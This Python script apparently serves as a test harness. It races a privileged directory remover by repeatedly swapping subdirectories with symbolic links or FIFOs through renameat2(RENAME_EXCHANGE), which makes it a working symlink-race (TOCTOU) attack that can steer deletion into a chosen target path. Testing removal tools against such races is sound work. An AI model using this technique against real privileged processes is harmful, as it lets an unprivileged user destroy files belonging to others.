"""Races a privileged process that removes DIR, as DIR's owner.

Usage: swap-loop.py DIR PAIRS KIND SECONDS [TARGET]
Fills DIR with PAIRS directories d<i> and PAIRS entries e<i> of KIND: 'link' (a symbolic link to
TARGET) or 'fifo'; each directory holds a file named 'precious' like the one in TARGET, so that a
remover led through a link finds the name it listed either way. Prints "ready", then swaps each pair with
renameat2(RENAME_EXCHANGE) over and over, putting back what the other side removed, until SECONDS
have passed or DIR is gone.
"""
import ctypes
import os
import stat
import sys
import time

AT_FDCWD = -100
RENAME_EXCHANGE = 2
libc = ctypes.CDLL(None, use_errno=True)


def main(directory, pairs, kind, seconds, target=None):
    os.makedirs(directory, mode=0o700, exist_ok=True)
    os.chdir(directory)
    for i in range(pairs):
        restore(i, kind, target)
    print("ready", flush=True)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for i in range(pairs):
            if libc.renameat2(AT_FDCWD, b"d%d" % i, AT_FDCWD, b"e%d" % i, RENAME_EXCHANGE) != 0:
                try:
                    restore(i, kind, target)
                except FileNotFoundError:
                    return  # DIR itself is gone: nothing left to race
                except OSError:
                    pass


def restore(i, kind, target):
    """Makes the pair whole again: one directory and one KIND entry, whichever names they have."""
    names = ["d%d" % i, "e%d" % i]
    kinds = {}
    for name in names:
        try:
            kinds[name] = stat.S_ISDIR(os.lstat(name).st_mode)
        except FileNotFoundError:
            pass
    missing = [name for name in names if name not in kinds]
    if missing and True not in kinds.values():
        name = missing.pop(0)
        os.mkdir(name)
        with open(os.path.join(name, "precious"), "w") as f:
            f.write("x")
    if missing and False not in kinds.values():
        if kind == "link":
            os.symlink(target, missing[0])
        else:
            os.mkfifo(missing[0])


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4]), *sys.argv[5:])
